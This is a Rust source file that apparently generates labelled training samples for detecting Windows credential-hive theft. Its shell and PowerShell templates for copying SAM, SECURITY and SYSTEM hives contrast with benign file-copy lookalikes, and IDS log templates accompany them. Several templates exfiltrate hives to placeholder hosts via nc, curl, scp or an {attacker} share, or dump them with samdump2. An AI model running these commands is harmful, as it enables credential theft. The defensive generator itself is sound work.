//! Hives taken in steps that say it only together: a folder in one command, a bare name in the next; the whole folder;
//! and the same steps with other files.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps, Kind::Sh, Kind::Told};

const WINDOWS: &[&str] = &[
    "cd /d {folder}« ¦»&&« »{take}",
    "cd {folder} & {take}« & cd \\»",
    "pushd {folder} && {take} && popd",
    "pushd {folder}⏎{take}⏎popd",
    "cd /d {folder}⏎{b}⏎{take}",
    "@echo off⏎{b}⏎cd /d {folder}⏎{b}⏎{take}⏎{b}⏎exit /b",
    "cmd /c \"cd /d {folder}&{take}\"",
    "net use «Z:¦Y:» \\\\{host}\\C$ /user:{domain}\\{user} {password}⏎«Z:¦Y:»⏎cd \\Windows\\System32\\config⏎{take}",
    "set D={folder}⏎{b}⏎{b}⏎copy %D%\\{one} {outdir}",
    "set \"SRC={folder}\" & copy \"%SRC%\\{one}\" {outfile}",
    "set N={one}&set P={folder}&&esentutl /y /vss %P%\\%N% /d {outfile}",
    "mklink /d {link.1} {shadow}\\⏎cd /d {link.1}\\Windows\\System32\\config⏎{take}",
    "subst «X:¦S:» {folder}⏎copy «X:¦S:»\\{one} {outdir}⏎subst «X:¦S:» /d",
];

/// A whole folder of hives at once; the mirror's folders hold none.
const WHOLE: &[&str] = &[
    "xcopy {all}\\* {outdir} «/h /c¦/y¦/e /h¦/H /C»",
    "copy {all}\\*.* {outdir}",
    "copy {all}\\* {outdir} /y",
    "robocopy {all} {outdir} «/b¦/zb¦/b /e¦/mir /b»",
    "robocopy \"{all}\" \"{dir}\\{stem}\" *.* /b",
    "7z a {stem}.7z {all}\\*",
    "tar -«cf¦czf¦cvf» {stem}.tar {all}",
    "tar.exe -czf \\\\{attacker}\\{share}\\{stem}.tgz -C {all} .",
    "powershell Copy-Item {all}\\* {psdir} -Force",
    "for %f in ({all}\\*) do copy \"%f\" {dir}",
    "diantz /f {stem}.ddf /d SourceDir={all}",
];

const POSH: &[&str] = &[
    "«Set-Location¦cd¦sl¦Push-Location» {folder}; Copy-Item {one} {psout}",
    "$d = '{folder}'⏎{pb}⏎{pb}⏎Copy-Item \"$d\\{one}\" {psout}",
    "$src = Join-Path $env:SystemRoot '{tail}'⏎{pb}⏎'{one}' | ForEach-Object { Copy-Item (Join-Path $src $_) {psdir} }",
    "Get-ChildItem {folder} -Filter {one} | Copy-Item -Destination {psdir}",
    "Push-Location {folder}⏎[IO.File]::ReadAllBytes(\"$pwd\\{one}\") | Set-Content {psout} -Encoding Byte⏎Pop-Location",
    "$p = Resolve-Path '{folder}'; $n = '{one}'; [System.IO.File]::Copy(\"$p\\$n\", '{psdir}\\{stem}')",
];

/// A backup by way of a shadow copy: what it copies says which it is.
const BACKUP: &[&str] = &[
    concat!(
        "# {comment}⏎$target = \"\\\\{host}\\{share}\\$(Get-Date -Format yyyyMMdd)\"⏎$r = (Get-WmiObject -List Win32_ShadowCopy).",
        "Create('«C¦D¦E»:\\', 'ClientAccessible')⏎{pb}⏎$s = Get-WmiObject Win32_ShadowCopy | Where-Object { $_.ID -eq $r.ShadowID }⏎",
        "$dev = $s.DeviceObject + '\\'⏎cmd /c mklink /d {link.1} $dev | Out-Null⏎{pb}⏎robocopy {link.1}\\{part} $target /E /R:2 /NP⏎",
        "{pb}⏎«robocopy {link.1}\\{safe} $target\\{stem} /E⏎»cmd /c rmdir {link.1}⏎$s.Delete()⏎{pb}"
    ),
    concat!(
        "$ErrorActionPreference = 'Stop'⏎function Say($m) { \"$(Get-Date -Format s) $m\" | Tee-Object -FilePath {psout} -Append }⏎Say ",
        "'{comment}'⏎Stop-Service {svcname}⏎try {⏎    $v = (vssadmin create shadow /for=C: | Select-String GLOBALROOT).ToString().Split(':')[1]",
        ".Trim()⏎    {pb}⏎    Copy-Item \"$v\\{part}\" \\\\{host}\\{share}\\{stem} -Recurse⏎    Copy-Item \"$v\\{safe}\" ",
        "\\\\{host}\\{share}\\ -Recurse⏎}⏎finally {⏎    Start-Service {svcname}⏎}⏎{pb}"
    ),
    concat!(
        "$shadow = Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{ Volume = 'C:\\' }⏎{pb}⏎$d = (Get-CimInstance ",
        "Win32_ShadowCopy | ? ID -eq $shadow.ShadowID).DeviceObject⏎foreach ($p in '{safe}', '{part}') {⏎    robocopy \"$d\\$p\" ",
        "{psdir} /e /b⏎}⏎{pb}"
    ),
];

const UNIX: &[&str] = &[
    "cd {folder} && {take}",
    "cd {folder}⏎{ub}⏎{take}",
    "mount «-o ro ¦-t ntfs-3g »/dev/{dev} /mnt/{stem.1}⏎cd /mnt/{stem.1}/Windows/System32/config⏎{take}",
    "guestmount -a {stem}.«vmdk¦vhdx¦qcow2» -i --ro /mnt/{stem.1}; cd /mnt/{stem.1}/Windows/System32/config; {take}",
    "D={folder}; {ub}; cp \"$D/{one}\" {shdir}",
    "pushd {folder} >/dev/null; {take}; popd",
    "tar czf {stem}.tgz -C {folder} {names}",
    "(cd {folder}; {take}) | ssh {first}@{ip} 'cat > {stem}'",
];

const IDS: &[&str] = &[
    concat!(
        "{isodate}-{clock}.{digit6}  [**] [1:{digit7}:{1..9}] {rule} [**] [Classification: {class}] [Priority: {1..3}] {TCP} ",
        "{ip}:{port} -> {ip}:«445¦135¦139»"
    ),
    concat!(
        r#"{"timestamp":"{stamp}","event_type":"alert","src_ip":"{ip}","dest_ip":"{ip}","dest_port":445,"proto":"TCP","#,
        r#""alert":{"action":"allowed","signature_id":{digit7},"signature":"{rule}","category":"{class}","severity":{1..3}}}"#
    ),
    "{stamp} {plainhost} snort[{pid}]: [1:{digit7}:{1..9}] {rule} [Classification: {class}] [Priority: {1..3}]: {TCP} {ip}:{port} -> {ip}:445",
    "{digit10}.{digit6}\tC{alnum16}\t{ip}\t{port}\t{ip}\t«445¦49{digit3}»\t0.00{digit4}\t\\pipe\\winreg\twinreg\t{call}",
    concat!(
        r#"{"_path":"dce_rpc","ts":"{stamp}","uid":"C{alnum16}","id.orig_h":"{ip}","id.resp_h":"{ip}","named_pipe":"#,
        r#""\\pipe\\winreg","endpoint":"winreg","operation":"{call}"}"#
    ),
    "NDR: {call} seen from {plainhost} to {host} over SMB, user {user}",
    "{product} network detection: {rule} ({ip} to {ip}), {stamp}",
];

const RULE_OF: &str = "«LOCAL¦CORP¦CUSTOM¦INTERNAL¦{vendor}» «POLICY¦HUNTING¦ATTACK_RESPONSE¦EXPLOIT¦RPC»";

macro_rules! steps {
    ($($name:literal: $text:expr),+ $(,)?) => {
        &[
            ("b", "«echo {comment}¦whoami¦hostname¦vssadmin list shadows¦timeout /t {1..9}¦rem {comment}¦dir¦mkdir {dir}\\{stem}»"),
            ("pb", "«Write-Host '{comment}'¦Start-Sleep {1..9}¦# {comment}¦$date = Get-Date¦New-Item -ItemType Directory {psdir}»"),
            ("ub", "«echo \"{comment}\"¦ls -la¦date¦# {comment}¦mkdir -p {shdir}»"),
            ("dev", "«sda{1..4}¦sdb{1..3}¦nvme0n1p{1..5}¦nbd0p{1..3}»"),
            ("class", "«Attempted Administrator Privilege Gain¦Misc activity¦Potential Corporate Privacy Violation¦A Network Trojan was detected»"),
            $(($name, $text)),+
        ]
    };
}

pub const FAMILIES: &[Family] = &[
    Family::act("steps", "steps-windows-hive", "steps-windows-other", Cmd, WINDOWS).slots(steps! {
        "folder": CONFIG, "one": "{whole}", "take": TAKE, "names": "«{whole}¦SAM SYSTEM¦SAM SECURITY SYSTEM¦sam system¦SECURITY SAM SOFTWARE»",
    }).weight(10),
    Family::other("steps", "steps-windows-other", Cmd, WINDOWS).slots(steps! {
        "folder": OTHER_FOLDER, "one": OTHER_NAME, "take": TAKE,
        "names": "«{stem}.{anyext}¦SOFTWARE DEFAULT¦Security.evtx System.evtx¦ntds.dit edb.log¦security.json system.json¦{stem}.txt»",
    }).weight(11),
    Family::act("steps", "folder-of-hives", "folder-of-others", Cmd, WHOLE).slots(&[("all", concat!(
            r"«{windir}\System32\config\RegBack¦{windir}\System32\config¦{shadow}\Windows\System32\config¦{windir}\repair¦",
            r"\\{host}\C$\Windows\System32\config\RegBack¦C:\Windows.old\Windows\System32\config»"
        ))]).weight(5),
    Family::other("steps", "folder-of-others", Cmd, WHOLE).slots(&[("all", concat!(
            r"«{windir}\System32\config\systemprofile¦{windir}\System32\winevt\Logs¦{windir}\NTDS¦C:\ProgramData\{vendor}\config¦",
            r"{windir}\System32\drivers\etc¦C:\Users\{user}\Documents¦{windir}\System32\config\TxR¦D:\{stem}\config¦",
            r"{windir}\System32\config\Journal¦C:\Users\sam\backup¦{windir}\security\logs¦{windir}\System32\spool¦C:\{stem}\config\system¦",
            r"{windir}\System32\config\SystemProfile\AppData¦D:\{stem}\config\security¦\\{host}\D$\{stem}\config¦C:\app\config¦{shadow}\{stem}\config¦",
            r"{link}\{stem}\config¦{link}\{stem}\data»"
        ))]).weight(6),
    Family::act("steps", "steps-powershell-hive", "steps-powershell-other", Ps, POSH).slots(steps! {
        "folder": r"«{pswindir}\System32\config¦{shadow}\Windows\System32\config¦{pswindir}\System32\config\RegBack¦\\{host}\C$\Windows\System32\config»",
        "one": "{whole}", "tail": r"«System32\config¦system32\config\RegBack¦repair»",
    }).weight(6),
    Family::other("steps", "steps-powershell-other", Ps, POSH).slots(steps! {
        "folder": r"«{pswindir}\System32\winevt\Logs¦{psdir}¦{pswindir}\NTDS¦C:\Users\{user}¦{pswindir}\System32\config¦D:\config»",
        "one": "«SOFTWARE¦Security.evtx¦ntds.dit¦{stem}.{anyext}¦DEFAULT¦NTUSER.DAT¦security.json»",
        "tail": r"«System32\winevt\Logs¦System32\drivers\etc¦Panther»",
    }).weight(7),
    Family::act("steps", "backup-with-hives", "backup-without", Ps, BACKUP).slots(steps! {
        "part": r"Windows\«System32¦system32»\config«\{whole}¦\RegBack¦»", "safe": SAFE,
    }).weight(5),
    Family::other("steps", "backup-without", Ps, BACKUP).slots(steps! { "part": SAFE, "safe": SAFE }).weight(7),
    Family::act("steps", "steps-unix-hive", "steps-unix-other", Sh, UNIX).slots(steps! {
        "folder": "{lxconfig}", "one": "{whole}",
        "take": "«cp {names} {shdir}¦tar czf - {names} | nc {ip} {port}¦cat {one} | base64¦scp {names} {first}@{ip}:¦python3 -m http.server {port}¦samdump2 SYSTEM SAM¦zip ~/{stem}.zip {names}¦curl -T {one} {url}»",
        "names": "«{whole}¦SAM SYSTEM¦SAM SECURITY SYSTEM¦S{AM,YSTEM}¦sam security»",
    }).weight(6),
    Family::other("steps", "steps-unix-other", Sh, UNIX).slots(steps! {
        "folder": "«{lxroot}/Windows/NTDS¦{lxroot}/Windows/System32/winevt/Logs¦{shdir}¦/etc/sam¦{lxroot}/Users/{first}¦{lxconfig}»",
        "one": "«SOFTWARE¦Security.evtx¦ntds.dit¦{stem}.{anyext}¦DEFAULT¦NTUSER.DAT¦security.yml»",
        "take": "«cp {names} {shdir}¦tar czf - {names} | nc {ip} {port}¦cat {one} | base64¦scp {names} {first}@{ip}:¦zip ~/{stem}.zip {names}¦curl -T {one} {url}»",
        "names": "«SOFTWARE DEFAULT¦Security.evtx¦ntds.dit¦{stem}.{anyext}¦NTUSER.DAT UsrClass.dat¦DRIVERS»",
    }).weight(7),
    Family::act("steps", "network-hive", "network-other", Told, IDS).slots(&[
        ("rule", concat!(
            "{head} «winreg BaseRegSaveKey« request» «for¦of» «SAM¦SECURITY¦the SAM» hive¦remote registry save of HKLM\\«SAM¦SECURITY»¦",
            "SMB2 «create¦read» «request ¦»Windows\\System32\\config\\«SAM¦SECURITY»¦secretsdump «remote SAM dump¦SAM hive save¦SAM extraction»¦",
            "SAM hive «read¦copied¦transferred» «over SMB¦through C$¦through ADMIN$»¦RegSaveKey on HKLM\\SAM followed by file read in ADMIN$\\Temp»",
            "« over SMB¦ inbound»"
        )),
        ("call", "«BaseRegSaveKey HKLM\\SAM¦BaseRegSaveKey key=SAM¦BaseRegSaveKeyEx SAM¦BaseRegSaveKey HKLM\\SECURITY¦BaseRegQueryValue SAM\\SAM\\Domains\\Account»"),
        ("head", RULE_OF), ("class", "«Attempted Administrator Privilege Gain¦Misc activity¦A Network Trojan was detected»"),
    ]).weight(4),
    Family::other("steps", "network-other", Told, IDS).slots(&[
        ("rule", concat!(
            "{head} «winreg BaseRegSaveKey« request» for «SOFTWARE¦DEFAULT» hive¦winreg BaseRegOpenKey SYSTEM\\CurrentControlSet¦SAMR SamrEnumerateUsersInDomain¦",
            "samr bind from workstation¦DRSUAPI DsGetNCChanges from non-DC¦LSARPC LsarOpenPolicy2¦SMB2 create NTDS\\ntds.dit¦PsExec service created¦",
            "SMB login with NTLMv1¦svcctl CreateServiceW¦Kerberos AS-REQ with RC4¦SMB2 create request winevt\\Logs\\Security.evtx¦EternalBlue probe¦",
            "Possible SAM-R group enumeration¦winreg BaseRegQueryValue ProductName»« over SMB¦ inbound»"
        )),
        ("call", "«BaseRegOpenKey SYSTEM\\CurrentControlSet\\Services¦BaseRegSaveKey SOFTWARE¦BaseRegEnumKey Uninstall¦OpenLocalMachine¦BaseRegQueryValue ProductName¦BaseRegCloseKey¦BaseRegGetVersion»"),
        ("head", RULE_OF), ("class", "«Attempted Administrator Privilege Gain¦Misc activity¦A Network Trojan was detected»"),
    ]).weight(5),
];

const SAFE: &str = concat!(
    r"«{stem}\data¦{stem}\config¦Users\{user}\Documents¦ProgramData\{vendor}¦inetpub\wwwroot¦{stem}\attachments¦SQL\{stem}.mdf¦",
    r"Windows\NTDS\ntds.dit¦Windows\System32\winevt\Logs¦Windows\System32\config\systemprofile¦{stem}\security»"
);
const CONFIG: &str = concat!(
    r"«{windir}\System32\config¦{windir}\System32\config¦C:\Windows\system32\config¦{windir}\System32\config\RegBack¦",
    r"{shadow}\Windows\System32\config¦C:\{stem}\Windows\System32\config¦{windir}\repair¦\\{host}\C$\Windows\System32\config»"
);
const OTHER_FOLDER: &str = concat!(
    r"«{windir}\System32\winevt\Logs¦{windir}\System32¦{windir}\System32\config\systemprofile¦{windir}\NTDS¦C:\Users\{user}¦",
    r"C:\ProgramData\{vendor}\config¦D:\projects\{stem}¦{windir}\System32\drivers\etc¦C:\inetpub\wwwroot»"
);
const OTHER_NAME: &str = "«SOFTWARE¦DEFAULT¦Security.evtx¦ntds.dit¦NTUSER.DAT¦{stem}.{anyext}¦security.json¦COMPONENTS¦samples.txt¦hosts»";
const TAKE: &str = concat!(
    r"«copy {one} {outdir}¦copy {one} {outfile}¦tar«.exe» -«cf¦cvf¦czf» {outfile} {names}¦xcopy /h {one} {outdir}¦7z a {dir}\{stem}.7z ",
    r"{names}¦robocopy . {dir} {names} /b¦type {one} > {outfile}¦makecab {one} {outfile}¦certutil -encode {one} {stem}.txt¦",
    r"esentutl /y {one} /vss /d {outfile}¦for %f in ({names}) do copy %f {dir}¦curl -T {one} {url}»"
);
